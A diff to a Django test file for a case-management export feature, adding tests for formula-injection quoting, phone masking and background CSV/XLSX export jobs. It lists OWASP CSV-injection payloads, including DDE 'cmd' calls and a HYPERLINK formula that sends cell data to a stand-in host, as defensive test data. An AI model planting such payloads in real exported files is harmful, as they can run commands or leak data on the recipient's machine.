@@ -92,8 +92,8 @@ def test_a_federation_analyst_gets_personal_data_masked(manager, analyst, center
     VisitFactory(person=person, registered_by=manager)
     own = _csv_rows(_api(manager).get("/api/v1/persons/export/"))[1]
     masked = _csv_rows(_api(analyst).get("/api/v1/persons/export/"))[1]
-    # (a phone starts with "+": the formula guard keeps it text behind a quote)
-    assert own[1:4] == [person.iin, f"'{person.phone}", "aigerim.s@mail.kz"]
+    # (a phone starts with "+" but runs nothing: written without the formula guard's quote)
+    assert own[1:4] == [person.iin, person.phone, "aigerim.s@mail.kz"]
     masked_iin = person.iin[:2] + "********" + person.iin[-2:]
     assert masked[1:4] == [masked_iin, "'+7********" + person.phone[-2:], "a***@***.kz"]
     visit_row = _csv_rows(_api(analyst).get("/api/v1/visits/export/"))[1]
@@ -106,6 +106,41 @@ def test_a_name_that_looks_like_a_formula_stays_text(manager, center):
     assert row[0] == '\'=HYPERLINK("http://x")'
     cell = _xlsx_rows(_api(manager).get("/api/v1/persons/export/", {"type": "xlsx"}))[1][0]
     assert cell == '\'=HYPERLINK("http://x")'
+
+
+# OWASP's CSV injection payloads: each must come out behind the quote, in CSV and in XLSX.
+FORMULA_PAYLOADS = (
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1",
+    "-1+1",
+    "+7 701 123 45 67+cmd|' /C calc'!A0",
+    "-10;=1+1",
+    "\t=1+1",
+    "\r=1+1",
+)
+# Phones and plain negative numbers: nothing in them can run; written as they are.
+HARMLESS = ("+77011234567", "+7 (701) 123-45-67", "+7 701 123 45 67", "-15", "-2,5", "-2.5")
+
+
+def test_formula_payloads_are_quoted_and_phones_are_not(manager, center):
+    for value in (*FORMULA_PAYLOADS, *HARMLESS):
+        PersonFactory(center=center, full_name=value, phone="+77015550000")
+    client = _api(manager)
+    names = {row[0]: row[2] for row in _csv_rows(client.get("/api/v1/persons/export/"))[1:]}
+    xlsx_names = {row[0] for row in _xlsx_rows(client.get("/api/v1/persons/export/", {"type": "xlsx"}))[1:]}
+
+    for payload in FORMULA_PAYLOADS:
+        assert f"'{payload}" in names, payload
+        assert f"'{payload}" in xlsx_names, payload
+    for value in HARMLESS:
+        assert value in names, value
+        assert value in xlsx_names, value
+    assert set(names.values()) == {"+77015550000"}  # the phone column, without a quote
 
 
 def test_an_export_is_in_the_audit_trail(manager, center):
@@ -201,6 +236,90 @@ def test_a_large_export_is_built_in_the_background_for_its_owner_only(
     other = _web(StaffFactory(role=Role.MANAGER, center=center))
     assert other.get(f"/exports/{job.pk}/").status_code == 404
     assert other.get(f"/exports/{job.pk}/download/").status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("language", "pending", "ready"),
+    [
+        ("ru", "Файл готовится", "Скачать"),
+        ("kk", "Файл дайындалуда", "Жүктеп алу"),
+        ("en", "The file is being prepared", "Download"),
+    ],
+)
+def test_a_large_page_export_goes_to_the_background_and_its_page_follows_it(
+    settings, media_root, lawyer, center, language, pending, ready, django_capture_on_commit_callbacks
+):
+    # given a case list longer than an export streamed while the user waits
+    settings.EXPORT_SYNC_MAX_ROWS = 2
+    mine = [ApplicationFactory(center=center, lawyer=lawyer) for _ in range(3)]
+    ApplicationFactory(center=center)  # another lawyer's: not in "my cases"
+    client = _web(lawyer)
+    client.cookies["django_language"] = language
+    # when the page's list is exported: a job is recorded, its task queued once the request commits
+    with django_capture_on_commit_callbacks(execute=False) as queued:
+        response = client.get("/cases/export/", {"scope": "mine", "type": "csv"})
+    job = ExportJob.objects.get(user=lawyer)
+    assert response.status_code == 302
+    assert response["Location"] == f"/exports/{job.pk}/"
+    assert (job.source, job.list_name, job.filters, job.status) == ("page", "cases", "scope=mine", "pending")
+    assert len(queued) == 1
+    # then its page says it is being prepared and polls its own state
+    page = client.get(f"/exports/{job.pk}/").content.decode()
+    assert pending in page
+    assert f'hx-get="/exports/{job.pk}/"' in page
+    # and once built by the task, the polled state offers the file: the page's list as filtered
+    build_export(job.pk)
+    state = client.get(f"/exports/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
+    assert ready in state
+    assert "hx-get" not in state
+    rows = [
+        line.split(";" if language != "en" else ",")[0]
+        for line in b"".join(client.get(f"/exports/{job.pk}/download/").streaming_content)
+        .decode("utf-8-sig")
+        .splitlines()[1:]
+    ]
+    assert sorted(rows) == sorted(case.registration_number for case in mine)
+
+
+def test_a_small_page_export_is_still_streamed(settings, lawyer, center):
+    settings.EXPORT_SYNC_MAX_ROWS = 2
+    _dispute(center, lawyer, "Overtime")
+    _dispute(center, lawyer, "Wages")
+    response = _web(lawyer).get("/disputes/export/", {"type": "csv"})
+    assert len(_csv_rows(response)) == 3
+    assert not ExportJob.objects.exists()
+
+
+def test_a_background_export_is_followed_through_the_api_by_its_owner_only(
+    settings, media_root, manager, center, django_capture_on_commit_callbacks
+):
+    settings.EXPORT_SYNC_MAX_ROWS = 2
+    for _ in range(3):
+        PersonFactory(center=center)
+    client = _api(manager)
+    with django_capture_on_commit_callbacks(execute=False):
+        started = client.get("/api/v1/visits/export/", {"type": "csv"})
+    with django_capture_on_commit_callbacks(execute=False):
+        started = client.get("/api/v1/persons/export/", {"type": "csv"})
+    assert started.status_code == 202
+    job_id = started.json()["id"]
+    assert started.json()["url"] == f"http://testserver/api/v1/exports/{job_id}/"
+
+    state = client.get(f"/api/v1/exports/{job_id}/").json()
+    assert (state["status"], state["rows_done"], state["download_url"]) == ("pending", 0, None)
+    assert client.get(f"/api/v1/exports/{job_id}/download/").status_code == 404
+
+    build_export(job_id)
+    state = client.get(f"/api/v1/exports/{job_id}/").json()
+    assert (state["status"], state["rows_done"], state["row_count"]) == ("done", 3, 3)
+    assert state["download_url"] == f"http://testserver/api/v1/exports/{job_id}/download/"
+    download = client.get(state["download_url"])
+    assert download.status_code == 200
+    assert len(b"".join(download.streaming_content).decode("utf-8-sig").splitlines()) == 4
+
+    other = _api(StaffFactory(role=Role.MANAGER, center=center))
+    assert other.get(f"/api/v1/exports/{job_id}/").status_code == 404
+    assert other.get(f"/api/v1/exports/{job_id}/download/").status_code == 404
 
 
 def test_old_background_exports_are_deleted_with_their_files(settings, media_root, manager):
